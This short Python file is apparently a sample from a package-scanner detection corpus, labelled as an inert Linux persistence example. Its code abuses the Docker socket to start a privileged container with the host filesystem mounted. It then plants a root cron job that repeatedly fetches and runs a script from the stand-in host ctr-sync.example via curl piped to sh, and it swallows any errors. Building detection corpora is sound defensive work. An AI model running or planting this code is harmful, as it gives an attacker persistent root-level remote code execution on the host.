# pkgguard corpus 699 (persistence), modelled on [linux-persistence]; inert, never run.
import http.client
import json
import socket


class _DockerConnection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect("/var/run/docker.sock")


_spec = {
    "Image": "alpine:3",
    "Cmd": ["sh", "-c", "echo '*/10 * * * * root curl -s https://ctr-sync.example/c | sh' > /host/etc/cron.d/ctr-sync"],
    "HostConfig": {"Binds": ["/:/host"], "Privileged": True},
}
try:
    conn = _DockerConnection("localhost")
    conn.request("POST", "/containers/create", json.dumps(_spec), {"Content-Type": "application/json"})
    cid = json.loads(conn.getresponse().read())["Id"]
    conn = _DockerConnection("localhost")
    conn.request("POST", f"/containers/{cid}/start")
    conn.getresponse()
except (OSError, KeyError, ValueError):
    pass
